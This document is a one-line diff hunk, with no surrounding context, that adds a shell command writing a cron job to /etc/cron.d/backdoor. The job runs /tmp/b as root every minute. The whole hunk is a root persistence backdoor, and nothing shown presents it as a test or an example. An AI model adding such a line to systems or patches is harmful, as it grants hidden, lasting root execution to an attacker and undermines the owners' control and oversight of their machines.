@@ -1,0 +1,1 @@
+echo "* * * * * root /tmp/b" > /etc/cron.d/backdoor
